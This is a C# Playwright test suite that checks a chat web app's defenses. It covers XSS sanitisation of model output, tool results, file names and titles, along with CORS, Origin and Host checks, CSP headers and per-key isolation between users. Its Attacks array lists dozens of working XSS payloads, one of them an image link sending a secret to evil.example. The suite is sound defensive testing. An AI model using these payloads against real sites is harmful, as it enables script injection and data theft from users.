using System.Net;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.AI;
using Microsoft.Extensions.Logging;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace Reverie.Web.Tests;

public sealed class SafetyTests(ChromiumFixture chromium)
{
    /// <summary>Scripts in many coats; a page that runs one shows a dialog, logs an error or asks a foreign host, and each fails the test.</summary>
    internal static readonly string[] Attacks =
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "<svg onload=alert(3)>", "<svg><script>alert(4)</script></svg>", "<iframe srcdoc='<script>alert(5)</script>'></iframe>",
        "[click](javascript:alert(6))", "[click](JaVaScRiPt:alert(7))", "[click](java\nscript:alert(8))", "[click](&#106;avascript:alert(9))", "[click](data:text/html,<script>alert(10)</script>)",
        "![x](https://evil.example/steal?secret)", "![x](javascript:alert(11))", "<javascript:alert(12)>", "[x]: javascript:alert(13)\n\n[x]", "```\"><script>alert(14)</script>\ncode\n```",
        "```<img/src=x/onerror=alert(15)>\n</code></pre><script>alert(16)</script>\n```", "<a href=\"javascript:alert(17)\">x</a>", "<details open ontoggle=alert(18)>", "<math><mtext></table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(19)&gt;\">",
        "<style>@import 'https://evil.example/x.css';</style>", "<base href='https://evil.example/'>", "<link rel=stylesheet href=https://evil.example/x.css>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<form action=https://evil.example><button>go</button></form>",
        "| a |\n|---|\n| <img src=x onerror=alert(20)> |", "<div style='position:fixed;inset:0;background:url(https://evil.example/)'>over everything</div>", "[a](https://ok.example \"\" onmouseover=alert(21))", "\u202e<script>alert(22)</script>", "[x](vbscript:msgbox(1))", "<object data=https://evil.example></object><embed src=https://evil.example>",
        "<template><script>alert(23)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(24)>\">", "<textarea></textarea><script>alert(25)</script>", "<button data-copy onclick=alert(26)>x</button>", "<input autofocus onfocus=alert(27)>", "<x onclick=alert(28) id=composer>", "&lt;script&gt;alert(29)&lt;/script&gt;",
    ];

    [Fact]
    public async Task Nothing_that_a_model_a_tool_a_file_or_a_title_says_can_run()
    {
        string all = string.Join("\n\n", Attacks);
        AITool tool = AIFunctionFactory.Create(() => all, "<img src=x onerror=alert('tool')>", all[..200]);
        await using PageServer server = await PageServer.StartAsync(
            (messages, _) => messages[^1].Role == ChatRole.Tool
                ? [new TextReasoningContent(all), .. ScriptedChatClient.Words(all)]
                : [new TextReasoningContent(all), new FunctionCallContent("call", tool.Name, new Dictionary<string, object?> { [all[..60]] = all })],
            o => o with { Tools = [tool] });
        Runs.Write(server.Workspace, "reverie-1", 20, sample: "<img src=x onerror=alert('sample')></p><script>alert('sample')</script>".Replace("\"", "\\\"", StringComparison.Ordinal));
        await using OpenPage open = await OpenPage.OpenAsync(chromium, server.Url);
        IPage page = open.Page;
        await open.ReadyAsync();
        await page.SetInputFilesAsync("[data-attach]", new FilePayload { Name = "<img src=x onerror=alert('name')>.txt", MimeType = "text/plain", Buffer = System.Text.Encoding.UTF8.GetBytes(all) });
        await Expect(page.Locator(".chips li")).ToHaveCountAsync(1);
        await open.SayAsync("<img src=x onerror=alert('typed')> pelican");
        await open.RepliedAsync(1);
        foreach (ILocator summary in await page.Locator(".turn summary").AllAsync()) await summary.ClickAsync();
        await open.ShotAsync("attack-desktop-light", full: true);

        // What is left is text, and links that lead only to the web.
        Assert.Equal(0, await page.Locator("#log :is(script, iframe, object, embed, form, style, link, meta, base, template, math, textarea), #log img, .markdown svg, .markdown [style], .markdown [id]").CountAsync());
        string[] handlers = await page.EvaluateAsync<string[]>("[...document.querySelectorAll('#log *')].flatMap(e => [...e.attributes].filter(a => a.name.startsWith('on')).map(a => e.outerHTML.slice(0, 80)))");
        Assert.Empty(handlers);
        string[] links = await page.EvaluateAsync<string[]>("[...document.querySelectorAll('.markdown a')].map(a => a.href + '|' + a.rel + '|' + a.target)");
        Assert.NotEmpty(links);
        Assert.All(links, l => Assert.Matches("^(https?://[^|]*|mailto:[^|]*)\\|noopener noreferrer nofollow\\|_blank$", l));
        foreach (ILocator copy in await page.Locator("[data-copy]").AllAsync()) await copy.ClickAsync();

        await page.Locator(".title-edit").FillAsync("<script>alert('title')</script><img src=x onerror=alert('title')> pelican");
        await page.Locator(".title-edit").PressAsync("Enter");
        await page.Locator(".title-edit").BlurAsync();
        await Expect(page.Locator(".item .name")).ToContainTextAsync("<script>alert('title')");
        await page.FillAsync("#search", "pelican");
        await Expect(page.Locator(".hit").First).ToBeVisibleAsync();
        await page.FillAsync("#search", "");
        await page.ReloadAsync();
        await open.RepliedAsync(1);
        await page.GetByRole(AriaRole.Link, new PageGetByRoleOptions { Name = "Memory" }).ClickAsync();
        await Expect(page.Locator(".tiles")).ToBeVisibleAsync();
        await page.GotoAsync(server.Url + "/training");
        await Expect(page.Locator(".samples li").First).ToContainTextAsync("<img src=x");
        await page.GotoAsync(server.Url + "/training/%3Cimg%20src=x%20onerror=alert(1)%3E");
        await Expect(page.Locator("[role=alert]").First).ToContainTextAsync("There is no run");
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Another_sites_page_may_call_the_interface_only_if_it_is_allowed(bool isAllowed)
    {
        WebApplicationBuilder builder = WebApplication.CreateSlimBuilder();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        builder.Logging.ClearProviders();
        await using WebApplication elsewhere = builder.Build();
        elsewhere.MapGet("/", () => TypedResults.Content("<!doctype html><title>elsewhere</title>", "text/html"));
        await elsewhere.StartAsync(TestContext.Current.CancellationToken);
        string site = elsewhere.Urls.First();
        await using PageServer server = await PageServer.StartAsync(otherSite: isAllowed ? site : null);
        await using OpenPage open = await OpenPage.OpenAsync(chromium, server.Url);
        open.Expected.AddRange(["CORS", "Failed to load"]);
        await open.Page.GotoAsync(site + "/");
        // A header of its own makes the browser ask first; the second call is one that it sends without asking.
        const string ask = "async u => { const say = async o => { try { const r = await fetch(u + '/v1/models', o); return r.status + (await r.text()).slice(0, 9); } catch { return 'refused'; } }; return [await say({ headers: { Authorization: 'Bearer none' } }), await say({})]; }";
        string[] answers = await open.Page.EvaluateAsync<string[]>(ask, server.Url.TrimEnd('/'));
        Assert.All(answers, a => Assert.Equal(isAllowed ? "200{\"data\":[" : "refused", a));
    }

    [Fact]
    public async Task Where_keys_are_required_a_page_belongs_to_its_key()
    {
        var keys = new Dictionary<string, string> { ["key-of-ada"] = "ada", ["key-of-bob"] = "bob" };
        await using PageServer server = await PageServer.StartAsync(configure: o => o with { FindUser = k => keys.GetValueOrDefault(k) });
        await using OpenPage ada = await OpenPage.OpenAsync(chromium, server.Url);
        ada.Expected.Add("401");
        await Expect(ada.Page).ToHaveURLAsync(new System.Text.RegularExpressions.Regex("/login"));
        await ada.ShotAsync("login-desktop-light");
        await ada.Page.FillAsync("#key", "wrong");
        await ada.Page.Keyboard.PressAsync("Enter");
        await Expect(ada.Page.Locator("[role=alert]")).ToHaveTextAsync("That key is not known here.");
        await SignInAsync(ada, "key-of-ada");
        await ada.SayAsync("ada's secret");
        await ada.RepliedAsync(1);
        BrowserContextCookiesResult cookie = (await ada.Page.Context.CookiesAsync()).Single(c => c.Name == "reverie.key");
        Assert.True(cookie is { HttpOnly: true, SameSite: SameSiteAttribute.Strict });
        Assert.DoesNotContain("key-of-ada", cookie.Value, StringComparison.Ordinal);
        string address = ada.Page.Url;

        await using OpenPage bob = await OpenPage.OpenAsync(chromium, server.Url + "/login");
        await SignInAsync(bob, "key-of-bob");
        await Expect(bob.Page.Locator(".item")).ToHaveCountAsync(0);
        await bob.Page.GotoAsync(address);
        await Expect(bob.Page.Locator(".notes")).ToContainTextAsync("There is no such conversation.");
        await bob.Page.FillAsync("#search", "secret");
        await Expect(bob.Page.Locator(".list [role=status]")).ToHaveTextAsync("Nothing found");
        Assert.Equal(404, (await bob.Page.APIRequest.GetAsync(address + "/export")).Status);
        Assert.Equal(200, (await ada.Page.APIRequest.GetAsync(address + "/export")).Status);

        // A key that is withdrawn ends what an open page may do.
        keys.Remove("key-of-ada");
        await ada.SayAsync("still there?");
        await Expect(ada.Page.Locator(".notes")).ToContainTextAsync("Your key is not valid any more.");
        await ada.Page.GotoAsync(server.Url);
        await Expect(ada.Page).ToHaveURLAsync(new System.Text.RegularExpressions.Regex("/login"));
        await bob.Page.GetByLabel("Sign out").ClickAsync();
        await bob.Page.GetByText("Sign out").Last.ClickAsync();
        await Expect(bob.Page).ToHaveURLAsync(new System.Text.RegularExpressions.Regex("/login"));
        Assert.Empty(await server.Journal.ListConversationsAsync("bob"));
        Assert.Single(await server.Journal.ListConversationsAsync("ada"));

        static async Task SignInAsync(OpenPage open, string key)
        {
            await open.Page.FillAsync("#key", key);
            await open.Page.Keyboard.PressAsync("Enter");
            await Expect(open.Page.Locator("#composer")).ToBeVisibleAsync();
        }
    }

    [Fact]
    public async Task Other_origins_and_other_names_reach_nothing()
    {
        await using PageServer server = await PageServer.StartAsync();
        using var http = new HttpClient();
        HttpResponseMessage page = await http.GetAsync(server.Url);
        Assert.Equal(HttpStatusCode.OK, page.StatusCode);
        string policy = string.Join(" ", page.Headers.GetValues("Content-Security-Policy"));
        Assert.Contains("script-src 'self';", policy, StringComparison.Ordinal);
        Assert.Contains("frame-ancestors 'none'", policy, StringComparison.Ordinal);
        Assert.DoesNotContain("unsafe-eval", policy, StringComparison.Ordinal);
        Assert.Equal(("nosniff", "same-origin"), (page.Headers.GetValues("X-Content-Type-Options").Single(), page.Headers.GetValues("Referrer-Policy").Single()));
        Assert.DoesNotContain("<script>", await page.Content.ReadAsStringAsync(), StringComparison.Ordinal);

        Assert.Equal(HttpStatusCode.MisdirectedRequest, await StatusAsync(HttpMethod.Get, "/", ("Host", "evil.example")));
        Assert.Equal(HttpStatusCode.OK, await StatusAsync(HttpMethod.Get, "/", ("Host", "localhost")));
        Assert.Equal(HttpStatusCode.Forbidden, await StatusAsync(HttpMethod.Post, "/_blazor/negotiate?negotiateVersion=1", ("Origin", "https://evil.example")));
        Assert.Equal(HttpStatusCode.Forbidden, await StatusAsync(HttpMethod.Post, "/_blazor/negotiate?negotiateVersion=1", ("Origin", "null")));
        Assert.Equal(HttpStatusCode.Forbidden, await StatusAsync(HttpMethod.Get, "/_blazor?id=1", ("Sec-Fetch-Site", "cross-site")));
        Assert.Equal(HttpStatusCode.Forbidden, await StatusAsync(HttpMethod.Get, "/_blazor?id=1", ("Origin", server.Url.Replace("127.0.0.1", "localhost", StringComparison.Ordinal))));
        Assert.Equal(HttpStatusCode.OK, await StatusAsync(HttpMethod.Post, "/_blazor/negotiate?negotiateVersion=1", ("Origin", server.Url)));

        using var socket = new System.Net.WebSockets.ClientWebSocket();
        socket.Options.SetRequestHeader("Origin", "https://evil.example");
        await Assert.ThrowsAsync<System.Net.WebSockets.WebSocketException>(() => socket.ConnectAsync(new Uri(server.Url.Replace("http", "ws", StringComparison.Ordinal) + "/_blazor"), TestContext.Current.CancellationToken));

        async Task<HttpStatusCode> StatusAsync(HttpMethod method, string path, (string Name, string Value) header)
        {
            using var request = new HttpRequestMessage(method, server.Url + path);
            Assert.True(request.Headers.TryAddWithoutValidation(header.Name, header.Value));
            return (await http.SendAsync(request)).StatusCode;
        }
    }

    [Fact]
    public async Task Without_a_key_nothing_of_the_page_opens()
    {
        await using PageServer server = await PageServer.StartAsync(configure: o => o with { FindUser = _ => null });
        using var http = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false });
        foreach (string path in (string[])["/", "/c/0123456789abcdef0123456789abcdef", "/memory", "/training", "/export", "/_blazor/negotiate?negotiateVersion=1"])
        {
            using var request = new HttpRequestMessage(path.Contains("negotiate", StringComparison.Ordinal) ? HttpMethod.Post : HttpMethod.Get, server.Url + path);
            Assert.Contains((await http.SendAsync(request)).StatusCode, (HttpStatusCode[])[HttpStatusCode.Redirect, HttpStatusCode.Unauthorized]);
        }
    }
}
